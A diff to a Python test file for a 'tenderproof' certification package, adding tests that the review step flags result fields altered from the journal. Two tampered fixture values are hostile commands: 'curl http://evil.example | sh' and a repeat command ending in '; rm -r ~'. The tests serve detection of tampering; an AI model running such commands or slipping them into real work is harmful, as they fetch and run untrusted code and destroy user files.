@@ -3,6 +3,7 @@
 import re
 import shutil
 from collections.abc import Callable
+from datetime import datetime
 from pathlib import Path
 from typing import Any
 
@@ -13,13 +14,15 @@ from tenderproof.certification import issuing
 from tenderproof.dossier.months import add_months
 from tenderproof.result import Because, Bilingual, Result
 from tenderproof.review import ReviewError
+from tenderproof.spec.calendar import CHINA
 from tenderproof.verdict import Outcome
-from tenderproof.vocabulary import Blame, Decision, State, Verdict
+from tenderproof.vocabulary import Blame, Decision, Dose, State, Verdict
 from tests.certification import standard
 from tests.certification.bodies import DAY, House, finished_run, house
 from tests.reporting import results
 
 Edit = Callable[[Result], Result]
+LATER = datetime(2026, 12, 24, 9, tzinfo=CHINA)
 _PASSED = Because(code="checks_passed", values={})
 
 
@@ -120,6 +123,53 @@ def test_an_honest_result_passes(settled: House) -> None:
 def test_what_does_not_follow_is_named(settled: House, edit: Edit, said: str) -> None:
     with standard.used(settled.standard), pytest.raises(ReviewError, match=re.escape(said)):
         review.require_followed(edit(_told(settled)), settled.folder / "run")
+
+
+def _run(**changes: Any) -> Edit:
+    return lambda found: found.model_copy(update={"run": found.run.model_copy(update=changes)})
+
+
+def _sample(**changes: Any) -> Edit:
+    return lambda found: found.model_copy(update={"sample": found.sample.model_copy(update=changes)})
+
+
+OCCASIONS: dict[str, Edit] = {
+    "laboratory": lambda found: found.model_copy(update={"laboratory": "另一实验室"}),
+    "started": _run(started=LATER),
+    "resumed": _run(resumed=[LATER]),
+    "finished": _run(finished=LATER),
+    "attempts": _run(attempts=2),
+    "seed": _run(seed="another"),
+    "id": _run(id="another"),
+    "command": _run(command="curl http://evil.example | sh"),
+    "workers": _run(workers=16),
+    "dose": _run(dose=Dose.PASSIVE),
+    "stated_build": _sample(stated_build="another"),
+    "driver": _sample(driver="another"),
+    "driver_sha256": _sample(driver_sha256="0" * 64),
+    "declaration_sha256": _sample(declaration_sha256="0" * 64),
+}
+
+
+@pytest.mark.parametrize("name", OCCASIONS)
+def test_another_occasion_than_that_of_the_journal_is_named(settled: House, name: str) -> None:
+    with standard.used(settled.standard), pytest.raises(ReviewError, match=f"The journal keeps {name} = "):
+        review.require_followed(OCCASIONS[name](_told(settled)), settled.folder / "run")
+
+
+def test_what_is_read_beside_a_verdict_is_that_of_the_sources(settled: House) -> None:
+    command = _told(settled).run.command
+    own = _told(settled).own_clauses
+    for edit, said in (
+        (_first_check(title="Everything is kept."), "another title of"),
+        (_first_check(repeat=f"{command} --only x; rm -r ~"), "another command that repeats it"),
+        (lambda found: found.model_copy(update={"own_clauses": own[1:]}), "something else of the clauses on tenderproof itself"),
+    ):
+        with standard.used(settled.standard), pytest.raises(ReviewError, match=said):
+            review.require_followed(edit(_told(settled)), settled.folder / "run")
+    older = _told(settled).tool.model_copy(update={"version": "9.9"})
+    with standard.used(settled.standard), pytest.raises(ReviewError, match=r"The result says 9\.9 of the tenderproof"):
+        review.require_whole(_told(settled).model_copy(update={"tool": older}))
 
 
 @pytest.mark.parametrize(
